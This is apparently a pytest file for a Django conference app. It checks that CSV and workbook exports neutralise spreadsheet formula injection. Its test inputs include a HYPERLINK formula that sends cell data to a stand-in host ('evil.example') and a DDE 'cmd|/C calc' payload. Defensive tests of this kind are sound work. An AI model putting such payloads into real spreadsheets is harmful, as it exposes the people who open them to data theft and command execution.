"""One CSV writer for every export, with the spreadsheet-formula guard (issue 12)."""

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from accounts.models import ProfessionalProfile
from conference.models import EventCredit, Registration
from conference.services.cme import reports as cme_reports
from conference.services.cme.claims import claim_credit
from conference.services.cme.evaluations import ensure_evaluation_form, submit_evaluation
from conference.services.spreadsheets import csv_text, safe_cell
from tests.support.cme import attend, learner, make_event

ROOT = Path(__file__).resolve().parents[2]
ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.50", "-0.50"),
        ("+12", "+12"),
        ("Grace Hopper", "Grace Hopper"),
        (None, ""),
        (3, "3"),
    ],
)
def test_safe_cell_guards_formulas_and_keeps_numbers(value, cell):
    assert safe_cell(value) == cell


def test_csv_text_guards_header_and_every_cell():
    text = csv_text(("a", "=b"), [(ATTACK, "1.25")])

    assert list(csv.reader(io.StringIO(text))) == [["a", "'=b"], ["'" + ATTACK, "1.25"]]


def test_every_csv_in_the_code_goes_through_the_one_writer():
    """No other module writes CSV with the csv module (so none can skip the guard)."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("accounts", "venues", "conference")
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text()) and path.name != "spreadsheets.py"
    ]

    assert offenders == []


def _evaluated_claimant(event, session, answer: str, *, legal_name="Ada Lovelace"):
    user = learner(legal_name=legal_name, npi="1234567893", consent_share_with_boards=True)
    attend(user, session, minutes=60)
    Registration.objects.get_or_create(user=user, event=event)
    form = ensure_evaluation_form(event)
    answers = {str(q.pk): ("4" if q.kind == "likert" else answer) for q in form.questions.all()}
    submit_evaluation(user, event, answers)
    claim_credit(user, event, "AMA_PRA_1", amount="1.00", attested=True)
    return user


@pytest.mark.django_db
def test_audit_pack_free_text_is_guarded():
    event, session = make_event()
    _evaluated_claimant(event, session, ATTACK)

    archive = zipfile.ZipFile(io.BytesIO(cme_reports.audit_pack(event)))
    text = archive.read(f"{event.slug}/evaluation_free_text.csv").decode()

    answers = [row["answer"] for row in csv.DictReader(io.StringIO(text))]
    assert answers == ["'" + ATTACK]


@pytest.mark.django_db
def test_pars_file_and_workbook_keep_a_formula_name_as_text():
    event, session = make_event()
    EventCredit.objects.filter(event=event).update(activity_number="202512345")
    user = _evaluated_claimant(event, session, "fine", legal_name="Ada =1+1")
    ProfessionalProfile.objects.filter(user=user).update(birth_month=2, birth_day=3)
    event_credit = EventCredit.objects.get(event=event, credit_type="AMA_PRA_1")
    ProfessionalProfile.objects.filter(user=user).update(given_name="=cmd", family_name="Lovelace")

    text, _ = cme_reports.pars_learner_file(event_credit)
    workbook = openpyxl.load_workbook(io.BytesIO(cme_reports.pars_learner_workbook(event_credit)))

    [row] = list(csv.reader(io.StringIO(text)))[1:]
    assert row[2:4] == ["'=cmd", "Lovelace"]
    cell = workbook["Learners"]["C2"]
    assert (cell.value, cell.data_type) == ("=cmd", "s")
